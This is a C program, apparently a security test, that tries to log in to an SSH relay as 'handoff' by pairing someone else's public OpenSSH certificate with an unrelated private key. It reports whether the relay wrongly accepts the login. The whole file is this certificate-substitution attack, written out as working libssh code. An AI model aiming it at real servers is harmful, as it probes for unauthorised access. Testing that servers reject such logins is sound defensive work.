/*
 * certthief: offers someone else's OpenSSH certificate with our own key,
 * the attack on certificate logins: a certificate is public (it sits in
 * .pub files and agents), so it must be worth nothing without its key.
 *
 *   certthief HOST PORT KEY CERT.pub
 *
 * Joins CERT.pub to the private key KEY (libssh 0.10's
 * ssh_pki_copy_cert_to_privkey does not compare them; handoff-tech does,
 * and would not send this) and signs the publickey request with KEY.
 * Prints "certthief: accepted" or "certthief: refused: ERROR" and exits 0
 * when refused, 1 when accepted, 2 on a local error. The relay's host key
 * is not checked: this is the attacker.
 */
#include <stdio.h>
#include <stdlib.h>

#include <libssh/libssh.h>

int main(int argc, char **argv)
{
	ssh_session s;
	ssh_key key = NULL, cert = NULL;
	int port, rc = 2;
	long timeout = 20; /* past the test relay's login_grace: libssh's server never answers a wrong signature */

	if (argc != 5) {
		fprintf(stderr, "usage: certthief HOST PORT KEY CERT.pub\n");
		return 2;
	}
	port = atoi(argv[2]);
	s = ssh_new();
	if (s == NULL)
		return 2;
	ssh_options_set(s, SSH_OPTIONS_HOST, argv[1]);
	ssh_options_set(s, SSH_OPTIONS_PORT, &port);
	ssh_options_set(s, SSH_OPTIONS_USER, "handoff");
	ssh_options_set(s, SSH_OPTIONS_TIMEOUT, &timeout);
	if (ssh_pki_import_privkey_file(argv[3], NULL, NULL, NULL, &key) != SSH_OK ||
	    ssh_pki_import_cert_file(argv[4], &cert) != SSH_OK || ssh_pki_copy_cert_to_privkey(cert, key) != SSH_OK) {
		fprintf(stderr, "certthief: cannot join %s to %s\n", argv[4], argv[3]);
		goto out;
	}
	if (ssh_connect(s) != SSH_OK) {
		fprintf(stderr, "certthief: %s\n", ssh_get_error(s));
		goto out;
	}
	if (ssh_userauth_publickey(s, NULL, key) == SSH_AUTH_SUCCESS) {
		printf("certthief: accepted\n");
		rc = 1;
	} else {
		printf("certthief: refused: %s\n", ssh_get_error(s));
		rc = 0;
	}
out:
	ssh_key_free(cert);
	ssh_key_free(key);
	ssh_disconnect(s);
	ssh_free(s);
	return rc;
}
